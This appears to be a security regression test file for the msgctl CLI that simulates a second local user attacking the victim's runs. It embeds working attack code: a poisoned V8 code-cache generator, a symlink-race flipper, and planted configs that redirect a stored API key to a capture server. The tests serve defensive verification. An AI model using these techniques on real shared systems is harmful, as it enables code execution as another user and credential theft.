/**
 * docs/security.md, promise 8: nothing another local user can create, replace or
 * swap is ever run as code or read as configuration, credentials or a journal.
 * Two real users (test/helpers/local-users.ts): the attacker (uid 65534) prepares
 * the trap with its own processes, the victim (uid 1234) runs msgctl into it.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { statSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { binPath } from '../helpers/cli.js';
import { useSandbox } from '../helpers/sandbox.js';
import { ATTACKER, VICTIM, msgctlAs, runAs, stage, whyNoTwoUsers } from '../helpers/local-users.js';

const why = whyNoTwoUsers();
const sandbox = useSandbox();

/** A server of the attacker's that records every Authorization header it is sent. */
async function captureServer(): Promise<{ url: string; seen: string[]; close(): void }> {
  const seen: string[] = [];
  const server: Server = createServer((req: IncomingMessage, res) => {
    seen.push(String(req.headers.authorization ?? ''));
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"id":"org_x","name":"Attacker"}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`, seen, close: () => server.close() };
}

/** A config.json of the attacker's: the profile's API at their server, the key from the file store. */
const plantedConfig = (url: string) => JSON.stringify({ profiles: { work: { base_url: url, credential: { kind: 'api_key', storage: 'file' } } } });
const stages: string[] = [];
afterAll(() => {
  for (const base of stages) rmSync(base, { recursive: true, force: true });
});
function newStage() {
  const s = stage();
  stages.push(s.base);
  return s;
}

/** A script only the attacker runs, written where both users can read it. */
function script(folder: string, name: string, text: string): string {
  const path = join(folder, name);
  writeFileSync(path, text, { mode: 0o644 });
  return path;
}

// What the attacker does to the code cache: a V8 code cache made from their own source of
// the same length as the bundle's (V8 checks the length, not the text), saved under the
// name the victim's next run reads, and a symlink of theirs in the sticky folder that
// points at the victim's real cache folder (so every check of it passes) and, a moment
// later, at a folder of theirs holding the crafted file.
const CRAFT = `
const fs = require('fs'), vm = require('vm'), path = require('path');
const [bundle, folder, name, marker] = process.argv.slice(2);
const source = fs.readFileSync(bundle, 'utf8');
const head = '(function (exports, require, module, __filename, __dirname) {';
// What msgctl compiles: the bundle's text up to the end of its wrapper (bin/code-cache.js).
const length = source.lastIndexOf('\\n})') + 3;
let evil = head + 'require("fs").writeFileSync(' + JSON.stringify(marker) + ', "ran as " + process.getuid()); process.exit(42);/*';
evil += ' '.repeat(length - evil.length - 5) + '*/\\n})';
fs.mkdirSync(path.join(folder, 'msgctl', 'code'), { recursive: true });
fs.writeFileSync(path.join(folder, 'msgctl', 'code', name), new vm.Script(evil, { filename: bundle }).createCachedData());
`;
const FLIP = `
const fs = require('fs');
const [link, ...targets] = process.argv.slice(2);
let i = 0;
const flip = () => {
  const next = link + '.next';
  fs.rmSync(next, { force: true });
  fs.symlinkSync(targets[i++ % targets.length], next);
  fs.renameSync(next, link);
  setTimeout(flip, 1 + (i % 3));
};
flip();
`;

// CI runs as root on Linux (.ci/run makes Node and the checkout reachable by other users): there a
// skip would hide a broken promise, so it fails instead.
describe.runIf(why !== null && process.env.CI === 'true' && process.getuid?.() === 0)('two local users in CI', () => {
  it('can run (as root in CI they must)', () => {
    throw new Error(`the two-user tests cannot run: ${why}`);
  });
});

describe.skipIf(why !== null)(`two local users${why ? ` (skipped: ${why})` : ''}`, () => {
  it("a crafted code cache behind another user's symlink in a sticky folder never runs, swapped or not (HIGH)", async () => {
    const s = newStage();
    const bundle = join(binPath(), '..', '..', 'dist', 'cli.cjs');
    const own = join(s.home, 'cache');
    // The victim's own cache, in its home: the name a `completion bash` run reads its code from.
    const first = await msgctlAs(VICTIM, ['completion', 'bash'], s.env({ XDG_CACHE_HOME: own }));
    expect(first.exitCode, String(first.stderr)).toBe(0);
    const name = readdirSync(join(own, 'msgctl', 'code')).find((n) => n.startsWith('cli.completion.'))!;
    expect(name).toBeDefined();

    const marker = join(s.sticky, 'attacker-code-ran');
    const evil = join(s.sticky, 'evil');
    const link = join(s.sticky, 'cache');
    const attackerEnv = { PATH: process.env.PATH, HOME: s.sticky };

    // Not swapped: the attacker's link points at the victim's own cache folder, so every check of
    // where it leads passes. msgctl must still not use the folder through it: with the cached code
    // removed, a run that used it would save its code there again (through the link).
    const linked = await runAs(ATTACKER, [process.execPath, '-e', 'require("fs").symlinkSync(process.argv[1], process.argv[2])', own, link], attackerEnv);
    expect(linked.exitCode, String(linked.stderr)).toBe(0);
    rmSync(join(own, 'msgctl', 'code', name));
    const through = await msgctlAs(VICTIM, ['completion', 'bash'], s.env({ XDG_CACHE_HOME: link }));
    expect(through.exitCode, String(through.stderr)).toBe(0);
    expect(through.stdout).toBe(first.stdout);
    expect(readdirSync(join(own, 'msgctl', 'code')).filter((n) => n.startsWith('cli.'))).toEqual([]);
    rmSync(link);

    // Swapped: the link flips between that folder and one of the attacker's holding the crafted
    // code under the name the run reads (the race of the finding, which won on the 1st and the 16th
    // run in two trials). The part above already fails without the fix; these runs show the whole
    // attack fail end to end.
    const craft = await runAs(ATTACKER, [process.execPath, script(s.base, 'craft.cjs', CRAFT), bundle, evil, name, marker], attackerEnv);
    expect(craft.exitCode, String(craft.stderr)).toBe(0);
    const flipper = runAs(ATTACKER, [process.execPath, script(s.base, 'flip.cjs', FLIP), link, own, evil], attackerEnv, { timeout: 600_000 });
    try {
      // The victim's cache goes through the attacker's link (XDG_CACHE_HOME=/tmp/… under cron or CI).
      const codes: number[] = [];
      for (let run = 0; run < 12 && !existsSync(marker); run++) {
        const r = await msgctlAs(VICTIM, ['completion', 'bash'], s.env({ XDG_CACHE_HOME: link }));
        codes.push(r.exitCode ?? -1);
        if (r.exitCode === 0) expect(r.stdout).toBe(first.stdout);
      }
      expect(existsSync(marker) ? readFileSync(marker, 'utf8') : 'never ran').toBe('never ran');
      expect(codes.filter((c) => c !== 0)).toEqual([]);
    } finally {
      flipper.kill();
      await flipper.catch(() => undefined);
    }
  }, 240_000);

  it("a crafted code cache in the victim's own folder (a file msgctl did not write) never runs", async () => {
    const s = newStage();
    const bundle = join(binPath(), '..', '..', 'dist', 'cli.cjs');
    const env = s.env();
    const first = await msgctlAs(VICTIM, ['completion', 'bash'], env);
    expect(first.exitCode, String(first.stderr)).toBe(0);
    const code = join(s.home, '.cache', 'msgctl', 'code');
    const name = readdirSync(code).find((n) => n.startsWith('cli.completion.'))!;
    // Made elsewhere (a backup, another machine, a hole we do not know of) and put in place as the victim's own 0600 file.
    const marker = join(s.sticky, 'planted-code-ran');
    const craft = await runAs(ATTACKER, [process.execPath, script(s.base, 'craft.cjs', CRAFT), bundle, join(s.sticky, 'made'), name, marker], { PATH: process.env.PATH });
    expect(craft.exitCode, String(craft.stderr)).toBe(0);
    writeFileSync(join(code, name), readFileSync(join(s.sticky, 'made', 'msgctl', 'code', name)), { mode: 0o600 });
    chownSync(join(code, name), VICTIM, VICTIM);
    chmodSync(join(code, name), 0o600);
    const r = await msgctlAs(VICTIM, ['completion', 'bash'], env);
    expect(existsSync(marker)).toBe(false);
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toBe(first.stdout);
  });

  it('a planted config never sends the key elsewhere: XDG_CONFIG_HOME in a folder others can write (MEDIUM)', async () => {
    const s = newStage();
    const capture = await captureServer();
    try {
      // The victim's config folder is in a team folder of theirs, which someone made writable for all.
      const team = join(s.base, 'team');
      mkdirSync(team, { mode: 0o755 });
      chownSync(team, VICTIM, VICTIM);
      const env = s.env({ XDG_CONFIG_HOME: team });
      const key = sandbox.current.credentials.api_key;
      const stored = await msgctlAs(VICTIM, ['--profile', 'work', '--base-url', sandbox.current.baseUrl, 'auth', 'set-key', '--insecure-storage'], env, { input: key });
      expect(stored.exitCode, String(stored.stderr)).toBe(0);
      chmodSync(team, 0o777);
      // The attacker moves msgctl/ aside, plants a config naming their server, and links the
      // victim's credentials file back in (they cannot read it; the victim's msgctl can).
      const plant = `
        const fs = require('fs'), path = require('path');
        const [team, config] = process.argv.slice(1);
        fs.renameSync(path.join(team, 'msgctl'), path.join(team, 'old'));
        fs.mkdirSync(path.join(team, 'msgctl'));
        fs.writeFileSync(path.join(team, 'msgctl', 'config.json'), config);
        fs.symlinkSync('../old/credentials.json', path.join(team, 'msgctl', 'credentials.json'));`;
      const planted = await runAs(ATTACKER, [process.execPath, '-e', plant, team, plantedConfig(capture.url)], { PATH: process.env.PATH });
      expect(planted.exitCode, String(planted.stderr)).toBe(0);
      const r = await msgctlAs(VICTIM, ['--profile', 'work', 'org'], env);
      expect(capture.seen).toEqual([]);
      expect(r.exitCode).not.toBe(0);
      expect(String(r.stderr)).toMatch(new RegExp(`Refusing to use the config file: ${team} is writable by other users \\(mode 0777\\)`));
    } finally {
      capture.close();
    }
  });

  it('a planted config never sends the key elsewhere: XDG_CONFIG_HOME in a sticky folder (MEDIUM)', async () => {
    const s = newStage();
    const capture = await captureServer();
    try {
      // The victim stored a key in its own config; its cron job runs with XDG_CONFIG_HOME=/tmp/cfg.
      const key = sandbox.current.credentials.api_key;
      const own = s.env();
      const stored = await msgctlAs(VICTIM, ['--profile', 'work', '--base-url', sandbox.current.baseUrl, 'auth', 'set-key', '--insecure-storage'], own, { input: key });
      expect(stored.exitCode, String(stored.stderr)).toBe(0);
      const cfg = join(s.sticky, 'cfg');
      const plant = `
        const fs = require('fs'), path = require('path');
        const [cfg, config, credentials] = process.argv.slice(1);
        fs.mkdirSync(path.join(cfg, 'msgctl'), { recursive: true });
        fs.writeFileSync(path.join(cfg, 'msgctl', 'config.json'), config);
        fs.symlinkSync(credentials, path.join(cfg, 'msgctl', 'credentials.json'));`;
      const credentials = join(s.home, '.config', 'msgctl', 'credentials.json');
      const planted = await runAs(ATTACKER, [process.execPath, '-e', plant, cfg, plantedConfig(capture.url), credentials], { PATH: process.env.PATH });
      expect(planted.exitCode, String(planted.stderr)).toBe(0);
      const r = await msgctlAs(VICTIM, ['--profile', 'work', 'org'], s.env({ XDG_CONFIG_HOME: cfg }));
      expect(capture.seen).toEqual([]);
      expect(r.exitCode).not.toBe(0);
      expect(String(r.stderr)).toMatch(new RegExp(`Refusing to use the config file: ${cfg} belongs to another user \\(uid ${ATTACKER}\\)`));
    } finally {
      capture.close();
    }
  });

  it("--journal never writes into another user's file or through their link, and sends nothing then (LOW-MEDIUM)", async () => {
    const s = newStage();
    const csv = join(s.home, 'night.csv');
    writeFileSync(csv, 'First Name,Mobile Phone\nKai,555-555-0141\n');
    chownSync(csv, VICTIM, VICTIM);
    const env = s.env({ MSGCTL_BASE_URL: sandbox.current.baseUrl, MSGCTL_API_KEY: sandbox.current.credentials.api_key });
    const victimFile = join(s.home, 'notes.txt');
    writeFileSync(victimFile, 'the victim\'s own notes\n', { mode: 0o600 });
    chownSync(victimFile, VICTIM, VICTIM);
    // An empty 0666 file of the attacker's at the journal's path, and a link of theirs to the victim's notes.
    const plant = `
      const fs = require('fs');
      const [file, link, target] = process.argv.slice(1);
      fs.writeFileSync(file, '');
      fs.chmodSync(file, 0o666);
      fs.symlinkSync(target, link);`;
    const journal = join(s.sticky, 'night.journal');
    const linked = join(s.sticky, 'linked.journal');
    const planted = await runAs(ATTACKER, [process.execPath, '-e', plant, journal, linked, victimFile], { PATH: process.env.PATH });
    expect(planted.exitCode, String(planted.stderr)).toBe(0);
    const before = sandbox.current.sb.db.messages.size;
    for (const [path, problem] of [
      [journal, `${journal} belongs to another user \\(uid ${ATTACKER}\\)`],
      [linked, `${linked} is a symbolic link`],
    ] as const) {
      const r = await msgctlAs(VICTIM, ['send', '--csv', csv, '--template', 'Hi {first_name}', '--journal', path, '--json'], env);
      expect(r.exitCode, String(r.stderr)).not.toBe(0);
      expect(String(r.stderr)).toMatch(new RegExp(`Refusing to use the journal: ${problem}`));
    }
    expect(readFileSync(journal, 'utf8')).toBe('');
    expect(statSync(journal).uid).toBe(ATTACKER);
    expect(readFileSync(victimFile, 'utf8')).toBe("the victim's own notes\n");
    expect(sandbox.current.sb.db.messages.size).toBe(before);
    // Its own journal in the same sticky folder is fine.
    const ok = await msgctlAs(VICTIM, ['send', '--csv', csv, '--template', 'Hi {first_name}', '--journal', join(s.sticky, 'own.journal'), '--json'], env);
    expect(ok.exitCode, String(ok.stderr)).toBe(0);
    expect(statSync(join(s.sticky, 'own.journal')).uid).toBe(VICTIM);
    expect(statSync(join(s.sticky, 'own.journal')).mode & 0o777).toBe(0o600);
  });
  it("sandbox --data never opens a database or a WAL another user could plant: a sticky or open folder, their link, their side file", async () => {
    const s = newStage();
    const env = s.env();
    // A link of the attacker's in the sticky folder, to a folder of the victim's.
    const data = join(s.home, 'data');
    mkdirSync(data, { mode: 0o700 });
    chownSync(data, VICTIM, VICTIM);
    const link = join(s.sticky, 'link');
    const planted = await runAs(ATTACKER, [process.execPath, '-e', 'require("fs").symlinkSync(...process.argv.slice(1))', data, link], { PATH: process.env.PATH });
    expect(planted.exitCode, String(planted.stderr)).toBe(0);
    // A WAL of the attacker's left in the victim's folder (from when it was open to all), as root can leave it.
    const kept = join(s.home, 'kept');
    mkdirSync(kept, { mode: 0o700 });
    chownSync(kept, VICTIM, VICTIM);
    writeFileSync(join(kept, 'world.db-wal'), 'not a WAL');
    chownSync(join(kept, 'world.db-wal'), ATTACKER, ATTACKER);
    for (const [path, problem] of [
      [join(s.sticky, 'world.db'), `${s.sticky} is writable by other users \\(mode 1777\\)`],
      [join(s.open, 'world.db'), `${s.open} is writable by other users \\(mode 0777\\)`],
      [join(link, 'world.db'), `${link} belongs to another user \\(uid ${ATTACKER}\\)`],
      [join(kept, 'world.db'), `${kept}/world.db-wal belongs to another user \\(uid ${ATTACKER}\\)`],
    ] as const) {
      const r = await msgctlAs(VICTIM, ['sandbox', '--port', '0', '--data', path], env, { timeout: 20_000 });
      expect(r.exitCode, String(r.stderr)).toBe(1);
      expect(String(r.stderr)).toMatch(new RegExp(`Refusing to use --data ${path}: ${problem}`));
      expect(String(r.stderr)).not.toContain('listening');
    }
    expect(readdirSync(s.sticky).sort()).toEqual(['link']);
    expect(readdirSync(s.open)).toEqual([]);
    expect(readdirSync(data)).toEqual([]);
    expect(readdirSync(kept)).toEqual(['world.db-wal']);
  });
});
